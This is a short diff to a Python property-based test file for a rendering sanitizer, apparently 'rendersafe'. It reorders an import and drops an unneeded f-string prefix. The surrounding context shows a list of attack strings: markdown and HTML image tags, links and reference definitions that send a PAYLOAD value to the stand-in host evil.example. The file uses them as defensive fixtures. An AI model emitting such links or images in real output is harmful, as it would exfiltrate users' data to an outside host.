@@ -3,10 +3,10 @@ changes confined to the spans the findings name, and no leak in any renderer."""
 
 from __future__ import annotations
 
-from attacks import violations
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from attacks import violations
 from rendersafe import Finding, Sanitizer
 
 S = Sanitizer()
@@ -30,7 +30,7 @@ ATTACK_ATOMS = [
     "[r]: https://evil.example/r.png",
     f"[q]: https://evil.example/?d={PAYLOAD}",
     "[q]",
-    f"<img src=https://evil.example/i.png>",
+    "<img src=https://evil.example/i.png>",
     f"<a href='https://evil.example/?d={PAYLOAD}'>a</a>",
     f"https://evil.example/?d={PAYLOAD}",
     "![a](http://evil.example/a b.png)",
